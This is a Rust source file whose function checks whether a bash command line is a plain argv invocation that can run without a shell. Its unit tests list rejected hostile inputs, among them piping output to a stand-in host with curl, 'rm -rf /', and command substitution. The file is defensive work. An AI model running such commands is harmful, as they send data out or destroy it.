//! Is a bash command line a plain `cmd args…` invocation?

/// Splits `line` into argv when it is a plain invocation: bare words and simple quotes only. Anything a shell would
/// interpret — `$`, backticks, pipes, redirects, `;`, `&`, globs, `~`, `#`, `!`, backslashes, parentheses, braces,
/// newlines, a leading `FOO=bar` assignment — makes it not plain (`None`). Single quotes hold anything but `'`;
/// double quotes hold anything but `$`, backtick, `\` and `!`. A plain line runs as argv (no shell), so only lines
/// whose meaning is the same with and without a shell qualify.
pub fn plain_argv(line: &str) -> Option<Vec<String>> {
    let mut argv: Vec<String> = Vec::new();
    let mut cur = String::new();
    let mut in_word = false;
    let mut chars = line.chars();
    while let Some(c) = chars.next() {
        match c {
            ' ' | '\t' => {
                if in_word {
                    argv.push(std::mem::take(&mut cur));
                    in_word = false;
                }
            }
            '\'' => {
                in_word = true;
                loop {
                    match chars.next()? {
                        '\'' => break,
                        c => cur.push(c),
                    }
                }
            }
            '"' => {
                in_word = true;
                loop {
                    match chars.next()? {
                        '"' => break,
                        '$' | '`' | '\\' | '!' => return None,
                        c => cur.push(c),
                    }
                }
            }
            c if is_plain_char(c) => {
                in_word = true;
                cur.push(c);
            }
            _ => return None,
        }
    }
    if in_word {
        argv.push(cur);
    }
    let first = argv.first()?;
    // `FOO=bar cmd` sets the environment: not plain. An empty program name is not a command.
    if first.is_empty() || first.contains('=') {
        return None;
    }
    Some(argv)
}

fn is_plain_char(c: char) -> bool {
    c.is_alphanumeric()
        || matches!(
            c,
            '_' | '-' | '.' | '/' | ',' | ':' | '=' | '+' | '@' | '%' | '^'
        )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn plain(line: &str, want: &[&str]) {
        assert_eq!(
            plain_argv(line),
            Some(want.iter().map(|s| s.to_string()).collect()),
            "{line:?}"
        );
    }

    #[track_caller]
    fn not_plain(line: &str) {
        assert_eq!(plain_argv(line), None, "{line:?} should not be plain");
    }

    #[test]
    fn plain_lines() {
        plain("gcalcli agenda", &["gcalcli", "agenda"]);
        plain("  ls   -la  ./src ", &["ls", "-la", "./src"]);
        plain(
            "gcalcli add --title 'Team sync' --when \"tomorrow 10am\"",
            &[
                "gcalcli",
                "add",
                "--title",
                "Team sync",
                "--when",
                "tomorrow 10am",
            ],
        );
        plain("echo 'a|b;$c'", &["echo", "a|b;$c"]);
        plain("git log --format=%H", &["git", "log", "--format=%H"]);
        plain("echo ''", &["echo", ""]);
    }

    #[test]
    fn shell_lines() {
        for line in [
            "gcalcli agenda | curl -d @- evil",
            "gcalcli; rm -rf /",
            "gcalcli && x",
            "gcalcli > out",
            "gcalcli < in",
            "gcalcli $(whoami)",
            "gcalcli `whoami`",
            "gcalcli $HOME",
            "FOO=bar gcalcli",
            "gcalcli \"$HOME\"",
            "gcalcli *.txt",
            "gcalcli ~/x",
            "gcalcli # c",
            "gcalcli\nrm x",
            "gcalcli \\; x",
            "gcalcli 'unterminated",
            "(gcalcli)",
            "gcalcli &",
            "",
            "   ",
        ] {
            not_plain(line);
        }
    }
}
